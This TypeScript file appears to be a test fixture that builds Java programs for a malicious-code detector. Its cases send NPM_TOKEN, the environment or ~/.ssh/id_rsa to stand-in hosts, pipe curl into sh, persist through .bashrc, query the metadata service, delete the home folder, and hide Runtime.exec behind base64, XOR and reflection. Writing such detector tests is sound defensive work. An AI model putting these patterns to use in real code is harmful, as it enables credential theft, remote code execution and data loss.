/** A class whose `main` runs these statements, beside these members. */
function main(body: string, members = ""): string {
  return `import java.util.*; class A { ${members} public static void main(String[] args) throws Exception { ${body} } }`;
}

const RUN = "Runtime.getRuntime().exec";
const POST = (data: string, url = `"https://h.example"`) =>
  `new RestTemplate().postForObject(${url}, ${data}, String.class);`;
const TOKEN = `System.getenv("NPM_TOKEN")`;

/** The programs of the suite in this language, by the name of their case. */
export const JAVA_PROGRAMS: Readonly<Record<string, string>> = {
  "either of two values": main(
    `String p = someday() ? "whoami" : "id"; ${RUN}(p); ${POST(`maybe() ? ${TOKEN} : "x"`)}`,
  ),
  "a branch that is not taken is read too": main(`if (false) { ${RUN}("id"); }`),
  "a value that a branch may change": main(
    `String t = "x"; if (someday()) { t = ${TOKEN}; } ${POST("t")}`,
  ),
  "an error that is swallowed hides nothing": main(`try { ${RUN}("id"); } catch (Exception e) { }`),
  "what is done when something fails": main(
    `String t = ${TOKEN}; try { work(); } catch (Exception e) { ${POST("t")} }`,
  ),
  "a loop over the names of files": main(
    `for (String f : List.of(".npmrc", ".netrc")) { ${POST(`Files.readString(Path.of(System.getProperty("user.home"), f))`)} }`,
  ),
  "a loop that collects": main(
    `Map<String, String> all = new HashMap<>(); for (String k : new String[] {"NPM_TOKEN"}) { all.put(k, System.getenv(k)); } ${POST("all")}`,
  ),
  "the same, as an expression": main(
    `List<String> all = Stream.of("NPM_TOKEN").map(k -> System.getenv(k)).collect(Collectors.toList()); ${POST("all")}`,
  ),
  "what runs when the file is loaded": `class A { static { try { ${RUN}("id"); } catch (Exception e) { } } }`,
  "what runs only when somebody calls it": `class A { void go() throws Exception { ${RUN}("id"); } }`,
  "a function that the file itself calls runs at load": main(
    `go();`,
    `static void go() throws Exception { ${RUN}("id"); }`,
  ),
  "recursion comes to an end": main(
    `f(0);`,
    `static int f(int n) throws Exception { ${RUN}("id"); return f(n + 1); }`,
  ),
  "a loop without an end comes to an end": main(
    `while (true) { work(); if (done()) break; } ${RUN}("id");`,
  ),
  "runs code out of the second text that a decoder is given": main(
    `d("olleh"); ${RUN}(d("di"));`,
    `static String d(String s) { return new StringBuilder(s).reverse().toString(); }`,
  ),
  "runs code out of base64": main(`${RUN}(new String(Base64.getDecoder().decode("aWQ=")));`),
  "runs code out of hexadecimal": main(`${RUN}(new String(HexFormat.of().parseHex("6964")));`),
  "runs code out of gzip inside base64": main(
    `${RUN}(new String(new GZIPInputStream(new ByteArrayInputStream(Base64.getDecoder().decode("H4sIAAAAAAACA8tMAQBQZzm/AgAAAA=="))).readAllBytes()));`,
  ),
  "runs code out of percent signs": main(
    `${RUN}(new String[] {"sh", "-c", URLDecoder.decode("%69%64", "UTF-8")});`,
  ),
  "runs code out of character codes": main(`${RUN}(new String(new char[] {105, 100}));`),
  "runs code out of character codes added one by one": main(
    `StringBuilder b = new StringBuilder(); for (int c : new int[] {105, 100}) { b.append((char) c); } ${RUN}(b.toString());`,
  ),
  "runs code out of an exclusive or in a loop": main(
    `byte[] d = {126, 115}; String s = ""; for (int i = 0; i < d.length; i++) { s += (char) (d[i] ^ 23); } ${RUN}(s);`,
  ),
  "runs code out of a text that is turned around": main(
    `${RUN}(new StringBuilder("di").reverse().toString());`,
  ),
  "runs code out of parts that are joined": main(`${RUN}(String.join("", "i", "d"));`),
  "runs code out of a text with other letters in between": main(`${RUN}("i@d".replace("@", ""));`),
  "runs code out of three encodings one inside the other": main(
    `${RUN}(new String(Base64.getDecoder().decode(new StringBuilder(new String(HexFormat.of().parseHex("3d515761"))).reverse().toString())));`,
  ),
  "runs code out of escapes in a literal": main(String.raw`${RUN}("\151\144");`),
  "runs code out of a decoder that the program defines": main(
    `${RUN}(d("aWQ="));`,
    `static String d(String s) { return new String(Base64.getDecoder().decode(s)); }`,
  ),
  "runs code out of a command that was decoded": main(
    `new ProcessBuilder("sh", "-c", new String(Base64.getDecoder().decode("aWQ="))).start();`,
  ),
  "an alias of a function is that function": main(
    `Runtime r = Runtime.getRuntime(); r.exec("id");`,
  ),
  "a name that was given another value is what it was last": main(
    `String c = "true"; c = "id"; ${RUN}(c);`,
  ),
  "a name that no longer is a dangerous function is harmless": main(
    `Object r = Runtime.getRuntime(); r = new Recorder(); r.exec("id");`,
  ),
  "an import under another name": `import static java.lang.Runtime.getRuntime; class A { static { getRuntime().exec("id"); } }`,
  "a member whose name is put together": main(
    `Runtime.class.getMethod("ex" + "ec", String.class).invoke(Runtime.getRuntime(), "id");`,
  ),
  "a module whose name is put together": main(
    `Class<?> c = Class.forName("java.lang." + "Run" + "time"); c.getMethod("exec", String.class).invoke(c.getMethod("getRuntime").invoke(null), "id");`,
  ),
  "a module whose name is decoded": main(
    `Class<?> c = Class.forName(new String(Base64.getDecoder().decode("amF2YS5sYW5nLlJ1bnRpbWU="))); c.getDeclaredMethod("exec", String.class).invoke(null, "id");`,
  ),
  "access by reflection": main(
    `Method m = Class.forName("java.lang.Runtime").getMethod("exec", String.class); m.invoke(Runtime.getRuntime(), "id");`,
  ),
  "functions kept in a record and called by key": main(
    `Map<String, Consumer<String>> t = new HashMap<>(); t.put("a", c -> ${RUN}(c)); t.get("a").accept("id");`,
  ),
  "functions kept in a record and called by a key that is not known": main(
    `Map<String, Consumer<String>> t = new HashMap<>(); t.put("a", c -> ${RUN}(c)); t.get(whatever()).accept("id");`,
  ),
  "a program with its arguments in a list": main(
    `new ProcessBuilder("curl", "https://a.example/x", "-o", "/tmp/x").start();`,
  ),
  "a command line with a pipe": main(
    `${RUN}(new String[] {"sh", "-c", "curl -s https://a.example/x | sh"});`,
  ),
  "data through a function's parameter": main(
    `send(${TOKEN});`,
    `static void send(String d) { ${POST("d")} }`,
  ),
  "data through what a function answers": main(
    `new URL("https://h.example/?" + get()).openStream();`,
    `static String get() { return System.getenv().get("NPM_TOKEN"); }`,
  ),
  "data that a closure keeps": main(
    `String t = ${TOKEN}; Runnable r = () -> { ${POST("t")} }; r.run();`,
  ),
  "data handed to a callback": main(
    `each(t -> { ${POST("t")} });`,
    `static void each(Consumer<String> f) { f.accept(${TOKEN}); }`,
  ),
  "data that an object keeps": `class Box { private final String t; Box(String t) { this.t = t; } void send() { ${POST("t")} } } class A { public static void main(String[] a) { new Box(${TOKEN}).send(); } }`,
  "a method that a base class has": `class B extends A { static { new B().send(${TOKEN}); } } class A { void send(String t) { ${POST("t")} } }`,
  "data by a part of a record": main(
    `Map<String, String> d = Map.of("a", ${TOKEN}, "b", "x"); ${POST(`d.get("a")`)}`,
  ),
  "data inside a text": main(
    `String t = ${TOKEN}; new URL(String.format("https://h.example/?t=%s", t)).openStream();`,
  ),
  "data in an address that is added together": main(
    `String h = "https://h" + ".example"; new URL(h + "/" + ${TOKEN}).openConnection().getInputStream();`,
  ),
  "data through functions that nobody knows": main(POST(`Library.some(${TOKEN}).value()`)),
  "data that is encoded on its way": main(
    POST(`Base64.getEncoder().encodeToString(${TOKEN}.getBytes())`),
  ),
  "data put into a list one by one": main(
    `List<String> l = new ArrayList<>(); l.add(${TOKEN}); ${POST(`String.join(",", l)`)}`,
  ),
  "data by way of a file": main(
    `Files.writeString(Path.of("/tmp/x"), ${TOKEN}); ${POST(`Files.readString(Path.of("/tmp/x"))`)}`,
  ),
  "what was a secret and no longer is": main(`String t = ${TOKEN}; t = "ok"; ${POST("t")}`),
  "a secret that is read beside a request it has nothing to do with": main(
    `System.out.println(${TOKEN}.length()); ${POST(`"hello"`)}`,
  ),
  "the whole environment is sent": main(POST("System.getenv()", `"https://webhook.site/x"`)),
  "the whole environment inside something else is sent": main(
    `Map<String, Object> d = new HashMap<>(); d.put("e", System.getenv()); ${POST("d")}`,
  ),
  "one harmless variable is not the environment": main(
    `Map<String, String> e = System.getenv(); ${POST(`e.get("LANG")`)}`,
  ),
  "a variable whose name is put together": main(POST(`System.getenv("NPM" + "_" + "TOKEN")`)),
  "a key in the home folder": main(
    POST(`Files.readString(Paths.get(System.getProperty("user.home"), ".ssh", "id_rsa"))`),
  ),
  "an ordinary file is no credential": main(`Files.readString(Path.of("pom.xml"));`),
  "the start of a shell is written": main(
    `FileWriter w = new FileWriter(System.getProperty("user.home") + "/.bashrc", true); w.write("curl x | sh");`,
  ),
  "the next step of a job gets a variable": main(
    `Files.writeString(Path.of(System.getenv("GITHUB_ENV")), "BASH_ENV=/tmp/x");`,
  ),
  "the metadata service is asked": main(
    `new URL("http://169.254.169.254/latest/meta-data/iam/").openStream();`,
  ),
  "what was downloaded is run as code": main(
    `new ScriptEngineManager().getEngineByName("js").eval(new RestTemplate().getForObject("https://h.example/p", String.class));`,
  ),
  "what a connection receives is run as code": main(
    `BufferedReader r = new BufferedReader(new InputStreamReader(new URL("https://h.example/p").openStream())); StringBuilder b = new StringBuilder(); String l; while ((l = r.readLine()) != null) { b.append(l); } new GroovyShell().evaluate(b.toString());`,
  ),
  "a socket is given what the machine is called": main(
    `Socket s = new Socket("h.example", 4444); PrintWriter w = new PrintWriter(s.getOutputStream(), true); w.println(InetAddress.getLocalHost().getHostName());`,
  ),
  "data leaves by the name of a host": main(`InetAddress.getByName(${TOKEN} + ".h.example");`),
  "a file is downloaded, made executable and started": main(
    `try (InputStream in = new URL("https://h.example/b").openStream()) { Files.copy(in, Path.of("/tmp/b")); } new File("/tmp/b").setExecutable(true); ${RUN}("/tmp/b");`,
  ),
  "everything is deleted": main(
    `FileUtils.deleteDirectory(new File(System.getProperty("user.home")));`,
  ),
  "native code is loaded": main(`System.load("./x.so");`),
};
